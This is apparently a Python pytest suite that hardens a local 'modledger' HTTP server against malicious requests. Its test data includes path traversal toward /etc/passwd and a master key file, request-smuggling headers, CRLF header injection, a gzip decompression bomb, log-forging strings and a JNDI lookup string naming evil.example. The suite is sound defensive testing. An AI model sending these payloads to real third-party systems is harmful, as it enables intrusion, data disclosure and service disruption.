"""What an attacker may put on a connection (docs/security.md), against a real server: paths, headers and bodies that
are made to mean something else to somebody, or to cost more than they should."""

import gzip
import json
import os
import re
import socket
import subprocess
import sys
import time
import zlib
from base64 import b64encode
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import NamedTuple

import pytest

from bench.processes import free_port
from modledger.http.sessions import COOKIE
from tests.databases import MASTER_KEY
from tests.http_client import OWNER, World
from tests.product import PATIENCE_SECONDS


class Server(NamedTuple):
    port: int
    cookie: str
    output: Path


class Reply(NamedTuple):
    """``status`` 0: the connection was closed without an answer."""

    status: int
    head: str
    body: bytes


@pytest.fixture(scope="module")
def server(shared_world: World, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A process that serves the people of the shared world and says all that it does."""
    port = free_port()
    environment = {
        **os.environ,
        **{f"MODLEDGER_RATE_LIMIT_{kind}": "0" for kind in ("LOGIN", "STAFF", "PUBLIC", "BOT")},
        "MODLEDGER_DATABASE_URL": shared_world.database,
        "MODLEDGER_MASTER_KEY": b64encode(MASTER_KEY).decode(),
        "MODLEDGER_PORT": str(port),
        "MODLEDGER_DRAIN_SECONDS": "0",
        "MODLEDGER_BODY_SECONDS": "1",
        "MODLEDGER_LOG_LEVEL": "debug",
        "MODLEDGER_ACCESS_LOG": "all",
    }
    output = tmp_path_factory.mktemp("serve") / "output"
    # The session ends by the real clock.
    shared_world.connection.execute("update sessions set expires_at = now() + interval '1 day'")
    cookie = f"{COOKIE}={shared_world.token(OWNER)}"
    shared_world.connection.execute("update sessions set expires_at = now() + interval '1 day'")
    with (
        output.open("wb") as out,
        subprocess.Popen(
            [sys.executable, "-m", "modledger.workers", "serve"], env=environment, stdin=subprocess.DEVNULL, stderr=out
        ) as process,
    ):
        give_up = time.monotonic() + PATIENCE_SECONDS
        while True:
            assert process.poll() is None, output.read_text()
            assert time.monotonic() < give_up
            with suppress(OSError), socket.create_connection(("127.0.0.1", port), 5):
                break
            time.sleep(0.05)
        yield Server(port, cookie, output)
        process.terminate()


def said(server: Server, request: bytes) -> bytes:
    """All that comes back on one connection for these bytes."""
    found = b""
    with socket.create_connection(("127.0.0.1", server.port), PATIENCE_SECONDS) as client:
        # What is refused in the middle is not read to its end.
        with suppress(ConnectionError):
            client.sendall(request)
        with suppress(ConnectionError):
            while piece := client.recv(65536):
                found += piece
    return found


def ask(
    server: Server, target: str | bytes, *headers: str | bytes, method: str = "GET", body: bytes | None = None
) -> Reply:
    """One request with the Owner's cookie, the target as it is."""
    lines = [
        b"%s %s HTTP/1.1" % (method.encode(), target if isinstance(target, bytes) else target.encode()),
        b"Host: localhost",
        b"Connection: close",
        b"Cookie: " + server.cookie.encode(),
        *(header if isinstance(header, bytes) else header.encode() for header in headers),
    ]
    if body is not None:
        lines.append(b"Content-Length: %d" % len(body))
    raw = said(server, b"\r\n".join(lines) + b"\r\n\r\n" + (body or b""))
    if not raw:
        return Reply(0, "", b"")
    head, _, content = raw.partition(b"\r\n\r\n")
    return Reply(int(head.split()[1]), head.decode("latin-1").lower(), content)


def alive(server: Server) -> None:
    assert ask(server, "/v1/users/me").status == 200


ME = re.compile(rb'^\{"discord_id":"1","username":"owner"')


# -- paths


@pytest.mark.parametrize(
    "target",
    [
        "/v1/users/../users/me",
        "/v1/admin/../users/me",
        "/v1/users/%2e%2e/users/me",
        "/v1/users/./me",
        "//v1/users/me/x",
        "/v1/users/me%00",
        "/v1/users/me%20",
        "/v1/users/me;x=1",
        "/v1/users/me%3fx=1",
        "/v1/users/me%23",
        "/V1/users/me",
        "/v1\\users\\me",
        "/v1%5cusers%5cme",
        "/v1/users/%6de%252f",
        "/v1/%C0%AEusers/me",
        "/v1/users/profile/%c0%af",
        "/v1/users/profile/%ff%fe",
        "/v1/users/profile/%ed%a0%80",
        "/v1/users/profile/%00",
        "/v1/users/profile/" + "a" * 60_000,
        "/v1/users/profile/" + "%F0%9F%98%80" * 5_000,
        "/v1/users/" + "9" * 50_000,
        "/v1/users/%EF%BC%91",
        "/schema/assets/..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/schema/assets/%2e%2e%2findex.html",
        "/schema/assets/../../pyproject.toml",
        "/schema/..%2f..%2f.data%2fmaster.key",
        "/schema/assets//etc/passwd",
        "/.git/config",
        "/..",
    ],
    ids=lambda target: target[:40],
)
def test_no_spelling_of_a_path_reaches_what_it_does_not_name(server: Server, target: str) -> None:
    reply = ask(server, target)
    assert reply.status in (400, 404), reply
    assert list(json.loads(reply.body)) == ["error", "correlation_id"]
    assert b"root:" not in reply.body
    assert len(reply.body) < 300


@pytest.mark.parametrize("target", ["/v1%2fusers%2fme", "/v1/%75sers/me", "//v1//users//me", "/v1/users/me/"])
def test_another_spelling_of_an_operation_is_that_operation_with_all_its_checks(server: Server, target: str) -> None:
    """A proxy that lets only some paths through has to compare them decoded; here nothing hangs on the spelling."""
    assert ME.match(ask(server, target).body)
    raw = said(server, f"GET {target} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
    assert raw.startswith(b"HTTP/1.1 401 ")


@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1:1", "a" * 5000, "x@y"])
def test_the_host_that_a_request_names_decides_nothing(server: Server, host: str) -> None:
    raw = said(
        server,
        f"GET /v1/users/me HTTP/1.1\r\nHost: {host}\r\nX-Forwarded-Host: {host}\r\nX-Original-URL: /v1/admin/health\r\n"
        f"X-HTTP-Method-Override: POST\r\nCookie: {server.cookie}\r\nConnection: close\r\n\r\n".encode(),
    )
    head, _, body = raw.partition(b"\r\n\r\n")
    if head.split()[1] == b"200":
        assert ME.match(body)
    else:
        assert head.split()[1] == b"400"
    assert host.encode() not in raw


# -- one request that is two


@pytest.mark.parametrize(
    "framing",
    [
        "Content-Length: 2\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\r\nContent-Length: 2",
        "Content-Length: 2\r\nContent-Length: 60",
        "Content-Length: +2",
        "Content-Length: 2, 60",
        "Content-Length: -1",
        "Content-Length: " + "9" * 5000,
        "Transfer-Encoding: chunked, identity",
        "Transfer-Encoding: xchunked",
        "Transfer-Encoding : chunked",
    ],
    ids=lambda framing: framing[:50].replace("\r\n", " "),
)
def test_where_a_body_ends_is_never_a_matter_of_opinion(server: Server, framing: str) -> None:
    """Where two lengths are given the request is refused or read in the one way of RFC 9112 §6.3; the second request,
    which a proxy before us might have taken for a body, is not answered as one of its own with a good answer."""
    second = f"GET /v1/users/me HTTP/1.1\r\nHost: localhost\r\nCookie: {server.cookie}\r\nConnection: close\r\n\r\n"
    first = f"POST /v1/authentication/logout HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n{framing}"
    raw = said(server, f"{first}\r\n\r\n{{}}{second}".encode())
    assert b'"username":"owner"' not in raw
    assert b" 500 " not in raw
    alive(server)


# -- headers


@pytest.mark.parametrize(
    "headers",
    [
        ["X-Long: " + "a" * 1_000_000],
        ["Cookie: " + "a=b; " * 50_000],
        [f"X-{number}: a" for number in range(5_000)],
        ["If-None-Match: " + '"a",' * 15_000],
        ["If-None-Match: " + " " * 60_000 + "x"],
        ["X-Ledger-Position: " + "9" * 60_000],
        ["Authorization: Bearer " + "a" * 60_000],
        ["X-API-Key: " + "a" * 60_000],
        ["X-Forwarded-For: " + "1.2.3.4," * 7_000],
        [b"X-Ledger-Position: \xd9\xa1"],
        [b"X-Bad: a\x00b"],
        [b"X-Bad: a\rb"],
        [b"X Bad: a"],
        [b": a"],
    ],
    ids=lambda headers: str(headers[0][:30]),
)
def test_headers_that_are_too_many_too_long_or_none_are_refused_or_ignored(
    server: Server, headers: list[str | bytes]
) -> None:
    reply = ask(server, "/v1/users/me", *headers)
    assert reply.status in (0, 200, 400, 401, 431), reply
    assert len(reply.body) < 600
    alive(server)


@pytest.mark.parametrize("text", ["%0d%0aSet-Cookie:%20a=b", "%0aX-Evil:%201", "%0d%0a%0d%0a<script>", "%E5%98%8A"])
def test_nothing_that_is_asked_becomes_a_header(server: Server, text: str) -> None:
    for target in (f"/v1/users/profile/{text}", f"/v1/users/search?q={text}", f"/{text}", f"/v1/users/me?{text}=1"):
        reply = ask(server, target, f"Idempotency-Key: {text}", f"Origin: https://{text}", f"User-Agent: {text}")
        assert reply.status in (200, 400, 404)
        assert "evil" not in reply.head
        assert "set-cookie" not in reply.head
        assert b"<script>" not in reply.body or b"content-type: application/json" in reply.head.encode()


# -- bodies

ASK = "/v1/authentication/request"
JSON = "Content-Type: application/json"


@pytest.mark.parametrize("coding", ["gzip", "deflate", "br", "zstd", "gzip, gzip"])
def test_a_compressed_body_is_not_decompressed(server: Server, coding: str) -> None:
    """64 MiB of white space in 64 KiB: a server that unpacks it holds a thousand times what it was sent."""
    bomb = b'{"discord_id": 1' + b" " * (64 << 20) + b"}"
    packed = zlib.compress(bomb, 9) if coding == "deflate" else gzip.compress(bomb, 9, mtime=0)
    assert len(packed) > 60_000
    reply = ask(server, ASK, JSON, f"Content-Encoding: {coding}", method="POST", body=packed[:65_536])
    assert (reply.status, json.loads(reply.body)["error"]) == (400, "body must be valid JSON")


def test_nothing_is_compressed_that_a_secret_could_stand_in(server: Server) -> None:
    """BREACH: the length of a compressed answer tells what stands in it beside what the attacker put there."""
    for coding in ("gzip", "br", "zstd", "deflate"):
        assert "content-encoding" not in ask(server, "/v1/users/me", f"Accept-Encoding: {coding}").head


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (b"[" * 65_000, "body must be valid JSON"),
        (b'{"a":' * 13_000, "body must be valid JSON"),
        (b'{"discord_id":' + b"[" * 30_000 + b"]" * 30_000 + b"}", "body must be valid JSON"),
        (b'{"discord_id":' + b"9" * 65_000 + b"}", None),
        (b'{"discord_id":1e' + b"9" * 60_000 + b"}", None),
        (b'{"discord_id":0.' + b"1" * 60_000 + b"}", None),
        (b'{"discord_id":1E400}', None),
        (b'{"discord_id":NaN}', "body must be valid JSON"),
        (b'{"discord_id":Infinity}', "body must be valid JSON"),
        (b'{"discord_id":1,"discord_id":2}', "discord_id given more than once"),
        (b'{"discord_id":1,"discord\\u005fid":2}', "discord_id given more than once"),
        (b"{" + b",".join(b'"%d":1' % n for n in range(7_000)) + b"}", "unknown field: 0"),
        (b'{"username":"' + b"\\u0000" * 10_000 + b'"}', "username must not contain a NUL character"),
        (b'{"username":"\\ud800"}', "body must be valid JSON"),
        (b'{"username":"' + b"\xef\xb7\xba" * 20_000 + b'"}', "username must be between 1 and 64 characters"),
        (b'\xef\xbb\xbf{"discord_id":1}', "body must be valid JSON"),
        ('{"discord_id":1}'.encode("utf-16"), "body must be valid JSON"),
        (b'{"__proto__":{"discord_id":1}}', "unknown field: __proto__"),
    ],
    ids=lambda value: str(value)[:24],
)
def test_json_that_is_made_to_be_expensive_or_ambiguous_is_refused(
    server: Server, body: bytes, message: str | None
) -> None:
    reply = ask(server, ASK, JSON, method="POST", body=body)
    assert reply.status == 400, reply
    if message is None:
        assert json.loads(reply.body)["error"] in (
            f"discord_id must be between 1 and {2**63 - 1}",
            "body must be valid JSON",
        )
    else:
        assert json.loads(reply.body)["error"] == message


def test_of_a_body_that_is_too_large_no_more_is_kept_than_the_limit(server: Server) -> None:
    reply = ask(server, ASK, JSON, method="POST", body=b" " * (8 << 20))
    assert reply.status in (0, 413)
    chunk = b"10000\r\n" + b" " * 65536 + b"\r\n"
    raw = said(
        server,
        f"POST {ASK} HTTP/1.1\r\nHost: localhost\r\n{JSON}\r\nTransfer-Encoding: chunked\r\n\r\n".encode() + chunk * 64,
    )
    assert raw == b"" or raw.startswith(b"HTTP/1.1 413 ")
    alive(server)


# -- the log of all this


def test_whatever_was_sent_every_line_of_the_log_is_one_object_and_no_error(server: Server) -> None:
    """What these left in the log, and all of the above that were sent to the same server."""
    forged = '{"event":"request","level":"info","actor":"user:1"}'
    texts = (f"\n{forged}", f"\r\n{forged}", "\x1b[2J\x1b[31m", "\u2028" + forged, "${jndi:ldap://evil.example/a}")
    earlier = len(server.output.read_text("ascii").splitlines())
    for text in texts:
        body = json.dumps({"username": text}).encode()
        assert ask(server, ASK, JSON, method="POST", body=body).status == 200
        assert ask(server, ASK, JSON, b"User-Agent: " + forged.encode(), method="POST", body=body).status == 200
    ask(server, "/v1/users/profile/%0a" + forged.replace('"', "%22"))
    # Lines are written together, a moment later.
    deadline = time.monotonic() + 20
    while len(lines := server.output.read_text("ascii").splitlines()) < earlier + 2 * len(texts) + 1:
        assert time.monotonic() < deadline, lines
        time.sleep(0.05)
    for line in lines:
        found = json.loads(line)
        assert found["process"] == "serve"
        # The suite's own database has one login for all; that is said once, at the start.
        assert found["level"] in ("debug", "info") or found["event"] == "database roles are not separated", line
        assert found.get("actor") in (None, "user:1")
    everything = "\n".join(lines)
    for sent in ("jndi", "evil", "passwd", "\x1b", "Set-Cookie", server.cookie.partition("=")[2]):
        assert sent not in everything
